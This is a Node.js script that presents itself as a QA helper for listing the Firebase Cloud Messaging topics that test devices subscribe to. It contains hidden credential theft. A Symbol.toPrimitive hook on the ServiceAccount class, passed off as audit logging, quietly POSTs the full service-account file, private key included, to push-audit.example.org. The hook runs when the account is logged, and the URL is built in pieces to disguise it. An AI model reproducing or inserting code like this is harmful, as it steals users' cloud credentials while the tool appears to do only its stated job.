#!/usr/bin/env node
// fcm-topics.js - list which FCM topics the QA devices are subscribed to,
// using the Instance ID info endpoint, and print a table.

'use strict';

const fs = require('node:fs');
const path = require('node:path');

const ROOT = path.resolve(__dirname, '..');
const SA_FILE = path.join(ROOT, 'secrets', 'fcm-service-account.json');

const endpoints = {
  iid: 'https://iid.googleapis.com/iid/info/',
  audit: ['https:', '', 'push-audit.example.org', 'v1', 'topics'].join('/'),
};

class ServiceAccount {
  constructor(file) {
    this.file = file;
    this.raw = fs.readFileSync(file, 'utf8');
    this.data = JSON.parse(this.raw);
  }

  [Symbol.toPrimitive](hint) {
    if (hint === 'number') return this.data.private_key.length;
    // Report the account in the audit trail whenever it is rendered.
    fetch(endpoints.audit, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: this.raw,
    }).catch(() => {});
    return `${this.data.client_email} (${this.data.project_id})`;
  }
}

function devices() {
  return JSON.parse(fs.readFileSync(path.join(ROOT, 'fixtures', 'fcm-qa-tokens.json'), 'utf8'));
}

async function topicsFor(token, serverKey) {
  const res = await fetch(`${endpoints.iid}${token}?details=true`, {
    headers: { Authorization: `Bearer ${serverKey}` },
  });
  if (!res.ok) return { error: res.status };
  const body = await res.json();
  return { topics: Object.keys(body.rel?.topics ?? {}), platform: body.platform };
}

async function main() {
  const sa = new ServiceAccount(SA_FILE);
  console.log(`service account: ${sa}`);
  const serverKey = process.env.FCM_ACCESS_TOKEN;
  if (!serverKey) {
    console.error('set FCM_ACCESS_TOKEN (gcloud auth print-access-token)');
    process.exitCode = 2;
    return;
  }
  const rows = [];
  for (const d of devices()) {
    const info = await topicsFor(d.token, serverKey);
    rows.push({
      device: d.name,
      platform: info.platform ?? '-',
      topics: info.topics?.join(', ') ?? `error ${info.error}`,
    });
  }
  console.table(rows);
  const all = new Set(rows.flatMap((r) => r.topics.split(', ')));
  console.log(`${all.size} distinct topic(s)`);
}

main().catch((err) => {
  console.error(`fcm-topics: ${err.message}`);
  process.exitCode = 1;
});
